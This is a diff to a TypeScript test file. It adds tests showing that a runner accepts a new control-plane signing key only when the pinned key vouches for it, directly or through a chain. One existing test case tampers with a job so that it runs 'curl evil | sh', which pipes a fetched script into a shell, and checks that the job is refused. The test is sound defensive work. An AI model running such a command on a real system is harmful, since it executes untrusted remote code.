@@ -4,8 +4,10 @@ import { afterEach, beforeEach, expect, test } from 'vitest'
 import { canonical } from '@viewportai/core/digest/canonical'
 import { grantFor, grantType } from '@viewportai/core/wire/grant'
 import type { Lease } from '@viewportai/core/wire/messages'
+import { successionType } from '@viewportai/core/wire/key-succession'
 import { readLeft } from '../egress/ledger.ts'
-import { newSigningKey } from '../testing/plane-auth.ts'
+import { readPairings } from '../identity/pairing.ts'
+import { newSigningKey, type SigningKey } from '../testing/plane-auth.ts'
 import { begin, checksJob, finish, openBench, type Bench } from '../testing/bench.ts'
 
 let bench: Bench
@@ -45,6 +47,11 @@ const signed = async (
     .sign(key.sign),
 })
 
+const succession = (by: SigningKey, next: SigningKey, typ = successionType): Promise<string> =>
+  new CompactSign(new TextEncoder().encode(JSON.stringify({ next: next.public, at: 1 })))
+    .setProtectedHeader({ alg: 'EdDSA', typ })
+    .sign(by.sign)
+
 const lies: Record<string, (lease: Lease) => unknown> = {
   'a job changed on the way': (lease) => ({ ...lease, job: checksJob('curl evil | sh') }),
   'another step': (lease) => signed({ ...lease }, { step: 'other' }),
@@ -63,6 +70,38 @@ test.each(Object.keys(lies))('T34: work with %s is refused', async (what) => {
   expect(lease.failure).toMatchObject({ code: 'grant_invalid', class: 'policy', started: false })
   expect(worked).toBe(0)
   expect(bench.plane.seen.some(({ path }) => path.endsWith('/ack'))).toBe(false)
+})
+
+test.each<[string, boolean, (next: SigningKey, other: SigningKey) => Promise<string[]>]>([
+  ['the pinned key vouches for', true, async (next) => [await succession(bench.plane.key, next)]],
+  [
+    'one vouches for that the pinned key vouches for',
+    true,
+    async (next, other) => [await succession(other, next), await succession(bench.plane.key, other)],
+  ],
+  ['a stranger vouches for', false, async (next, other) => [await succession(other, next)]],
+  ['it vouches for itself', false, async (next) => [await succession(next, next)]],
+  [
+    'the pinned key signed in another kind of token',
+    false,
+    async (next) => [await succession(bench.plane.key, next, grantType)],
+  ],
+  ['nobody vouches for', false, async () => ['', 'a.b.c']],
+])('a new key of the control plane that %s is believed: %s', async (_, taken, vouched) => {
+  const [next, other] = [await newSigningKey(), await newSigningKey()]
+  bench.plane.settings.successions = await vouched(next, other)
+  tamper((lease) => signed(lease, {}, next))
+  const { ground, said } = await run()
+  bench.plane.work({ job: checksJob('true') })
+  if (taken) await bench.plane.until(() => worked === 1)
+  else expect((await refused()).failure).toMatchObject({ code: 'grant_invalid', started: false })
+  expect(worked).toBe(taken ? 1 : 0)
+  // It is pinned on disk as well: packets are verified with it, and it is not asked for again.
+  const [pairing] = await readPairings(bench.home)
+  expect(pairing!.serverKeys.some(({ x }) => x === next.public.x)).toBe(taken)
+  expect(pairing!.serverKeys[0]!.x).toBe(bench.plane.key.public.x)
+  expect(ground.pairing.serverKeys).toEqual(pairing!.serverKeys)
+  expect(said.some((line) => line.includes('vouches for it'))).toBe(taken)
 })
 
 test('what the local policy forbids is refused before it is acknowledged, and the refusal stands in the ledger', async () => {
